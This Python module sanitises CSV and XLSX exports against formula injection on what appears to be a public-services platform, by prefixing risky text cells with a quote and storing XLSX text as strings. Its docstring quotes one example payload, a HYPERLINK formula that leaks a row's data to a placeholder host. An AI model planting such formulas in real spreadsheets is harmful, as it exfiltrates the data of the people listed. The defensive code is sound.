"""Every CSV and XLSX the platform writes goes through these helpers, so that text typed by a citizen
(an applicant's name, a feedback title, a survey comment) stays text in the office's spreadsheet.

security: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel and LibreOffice as a formula ("CSV injection" / formula injection; an applicant named
``=HYPERLINK("http://x/?"&A1,"Bấm")`` would otherwise become a live link that leaks the row). The
OWASP recommendation is followed:

- CSV: such a text cell is prefixed with a single quote ``'``, which the spreadsheet shows as text;
- XLSX: every ``str`` value is stored as a string cell (openpyxl would otherwise store a leading ``=``
  as a formula), so nothing needs to be altered: save every workbook with :func:`xlsx_bytes`.

Numbers, dates and ``None`` pass through unchanged; only ``str`` values are ever touched.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

#: The characters with which a spreadsheet starts a formula (OWASP "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def csv_safe(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet evaluates: a text starting a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every row goes through :func:`csv_safe`."""

    def __init__(self, stream: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable, **kwargs: Any) -> SafeCsvWriter:
    """The one CSV writer of the platform (see the module's docstring)."""
    return SafeCsvWriter(stream, **kwargs)


def xlsx_bytes(book: Any) -> bytes:
    """The workbook ``book`` saved as XLSX bytes, every ``str`` cell of every sheet stored as a string.

    openpyxl stores a value that begins with ``=`` as a formula; the platform writes no formulas, so
    every text cell is set to the string type before saving (see the module's docstring).
    """
    from io import BytesIO

    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()
